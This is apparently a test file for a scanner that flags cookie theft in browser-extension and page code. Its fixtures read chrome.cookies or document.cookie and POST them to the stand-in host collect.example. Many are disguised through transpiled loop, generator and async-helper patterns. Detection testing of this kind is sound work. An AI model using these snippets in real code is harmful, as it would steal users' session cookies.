import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What compilers make of loops, of calls with arguments that are waited for, and of generators, for browsers that lack them.
 * Each program has `TAKEN` where it takes something, and is scanned with nothing taken there, too.
 */

const SEND = "const send = (x) => fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(x) });";
const STEPS =
  'function steps(self, body) { var s = { label: 0, sent: function () { return s.v; }, trys: [], ops: [] }; return { next: function () { return body.call(self, s); } }; }';
const AWAITER =
  'function wait(self, args, P, steps) { return new (P || (P = Promise))(function (done) { function on(r) { r.done ? done(r.value) : new P(function (d) { d(r.value); }).then(function (v) { on(steps.next(v)); }); } on((steps = steps.apply(self, args || [])).next()); }); }';
const BABEL =
  "function later(fn) { return function () { var self = this, args = arguments; return new Promise(function (done, fail) { var steps = fn.apply(self, args); function next(v) { step(steps, done, fail, next, fail, 'next', v); } next(); }); }; } function step(g, done, fail, next, thrown, key, v) { var r = g[key](v); r.done ? done(r.value) : Promise.resolve(r.value).then(next, thrown); }";
const INHERITS =
  'function inherits(t, e) { t.prototype = Object.create(e && e.prototype, { constructor: { value: t } }); } function define(C, all) { for (var n = 0; n < all.length; n++) Object.defineProperty(C.prototype, all[n].key, all[n]); return C; }';
const loop = (list: string, body: string): string =>
  `for (var it = ${list}[Symbol.iterator](), step, ok = true; !(ok = (step = it.next()).done); ok = true) { var one = step.value; ${body} }`;
const SOURCES = '{ jar: { read: function read(done) { chrome.cookies.getAll({}, TAKEN); } } }';
const READ = 'one.read(send);';

it.each<[string, string]>([
  ['a loop over objects', `var all = ${SOURCES}; ${loop('[all.jar]', READ)}`],
  ['a loop over the values of an object', `var all = ${SOURCES}; ${loop('Object.values(all)', READ)}`],
  ['a loop over a set', `var all = new Set(); all.add(${SOURCES}.jar); ${loop('all', READ)}`],
  [
    'a loop over a map',
    `var all = new Map(); all.set('jar', ${SOURCES}.jar); ${loop('all', 'var read = one[1].read; read(send);')}`,
  ],
  [
    'a loop over functions',
    `var all = [function () { return chrome.cookies.getAll({}, TAKEN), 0; }]; ${loop('all', 'one();')}`.replace(
      'TAKEN',
      'function (c) { TAKEN(c); }',
    ),
  ],
])('%s', async (_, program) => {
  const scanned = (taken: string): Promise<string> =>
    graded({ background: `${SEND} ${program.replaceAll('TAKEN', taken)}` });
  expect(await scanned(program.includes('one();') ? 'send' : 'done')).toBe('F');
  expect(await scanned('(function (c) { console.log(c.length); })')).not.toBe('F');
});

it.each<[string, string]>([
  ['a method that was looked up before', 'var a, b, out = []; b = (a = out).push; b.apply(a, [DATA]); send(out);'],
  [
    'a method of a field',
    'function Box() { this.out = []; } Box.prototype.put = function (x) { var a, b; b = (a = this.out).push; b.apply(a, [x]); send(this.out); }; new Box().put(DATA);',
  ],
  [
    'a text that is continued, and a function of the platform',
    "var a = fetch, b = 'https://collect.example/?a='.concat, c, d; d = (c = JSON).stringify; a.apply(void 0, [b.apply('https://collect.example/?a=', [d.apply(c, [DATA])])]);",
  ],
  [
    'arguments that were spread out',
    "var a, b, c; b = (a = send).apply; c = [void 0]; b.apply(a, c.concat([[DATA].concat(['x'])]));",
  ],
  [
    'an object that is made',
    'function Box(x) { this.x = x; } var a = Box.bind; var made = new (a.apply(Box, [void 0, DATA]))(); send(made.x);',
  ],
  [
    'a generator',
    `${STEPS} function parts(list) { return steps(this, function (s) { switch (s.label) { case 0: return [4, list]; case 1: s.sent(); return [2]; } }); } ${loop('parts(DATA)', 'send(one);')}`,
  ],
  [
    'a function of steps that is handed the arguments',
    `${STEPS} ${AWAITER} function go(x) { return wait(this, arguments, void 0, function (a) { var body = a.body; return steps(this, function (s) { switch (s.label) { case 0: return [4, send(body)]; case 1: s.sent(); return [2]; } }); }); } go({ body: DATA });`,
  ],
  [
    'a function of steps that is handed a list of them',
    'const run = (self, args, steps) => new Promise((done) => { const on = (r) => (r.done ? done(r.value) : Promise.resolve(r.value).then((v) => on(steps.next(v)))); on((steps = steps.apply(self, args)).next()); }); const go = (_0, ..._1) => run(null, [_0, ..._1], function* (a, b) { yield send(b); }); go(1, DATA);',
  ],
  [
    'a method that may not be there',
    'var a, b; const box = { read: () => DATA }; const all = { box }; send((b = (a = all[self.n]) == null ? void 0 : a.read) == null ? void 0 : b.call(a));',
  ],
  [
    'properties that are described for another object',
    'function copy(to, from) { return Object.defineProperties(to, Object.getOwnPropertyDescriptors(from)), to; } send(copy({}, { list: [DATA] }));',
  ],
  [
    'a method of a class that another one extends',
    `${BABEL} ${INHERITS} var Base = function () { function Base() {} return define(Base, [{ key: 'go', value: function () { var _go = later(make().m(function inner() { var x; return make().w(function (context) { while (1) switch (context.n) { case 0: context.n = 1; return this.read(); case 1: x = context.v; send(x); return context.a(2); } }, inner, this); })); function go() { return _go.apply(this, arguments); } return go; }() }]); }(); var Jar = function (_Base) { function Jar() { return _Base.apply(this, arguments) || this; } inherits(Jar, _Base); return define(Jar, [{ key: 'read', value: function read() { return DATA; } }]); }(Base); new Jar().go();`,
  ],
])('%s', async (_, program) => {
  expect(await graded({ content: `${SEND} ${program.replace('DATA', 'document.cookie')}` })).toBe('F');
  expect(await graded({ content: `${SEND} ${program.replace('DATA', "'nothing'")}` })).toMatch(/^A/);
});
